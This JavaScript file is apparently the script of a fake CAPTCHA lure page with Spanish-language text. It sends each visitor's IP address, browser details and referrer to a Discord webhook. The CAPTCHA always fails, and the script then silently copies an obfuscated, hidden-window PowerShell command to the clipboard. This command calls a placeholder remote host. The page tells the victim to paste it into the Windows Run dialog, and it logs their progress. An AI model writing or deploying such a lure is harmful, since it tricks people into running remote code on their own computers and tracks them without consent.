var WEBHOOK = 'https://discord.com/api/webhooks/000000000000/TOKEN';
var ip = '';
$.getJSON('https://api.ipify.org?format=json', function (d) { ip = d.ip; note('👀 visita'); });

function note(t) {
  $.ajax({ url: WEBHOOK, type: 'POST', contentType: 'application/json', data: JSON.stringify({ username: 'panel', embeds: [{ title: t, description: ip + '\n' + navigator.userAgent + '\n' + (document.referrer || 'directo') }] }) });
}

var p1 = 'power' + 'shell', p2 = ' -w ' + 'h -nop ', p3 = '-c "PLACEHOLDER ' + 'https://servidor-verif.invalid/AAAA"';

$('.join-btn').click(function () {
  $('.captcha-modal').fadeIn(200);
});
$('.captcha-modal .check').click(function () {
  var $c = $(this).addClass('loading');
  setTimeout(function () {
    $c.removeClass('loading').addClass('fail');
    $('.captcha-modal .info').html('Verificación fallida. Sigue los pasos:<br>1. Pulsa <b>Win + R</b><br>2. Pulsa <b>Ctrl + V</b> (el código de verificación ya fue copiado)<br>3. Pulsa <b>Enter</b><br>4. Vuelve y haz clic en <b>Continuar</b>');
    var ta = $('<textarea style="position:absolute;left:-9999px">').val(p1 + p2 + p3).appendTo('body');
    ta[0].select();
    document.execCommand('copy');
    ta.remove();
    note('📋 copiado');
  }, 1800);
});
$('.captcha-modal .continue').click(function () {
  note('➡️ continuar');
  $('.captcha-modal .info').append('<p class="red">No se detectó la verificación. Repite los pasos.</p>');
});
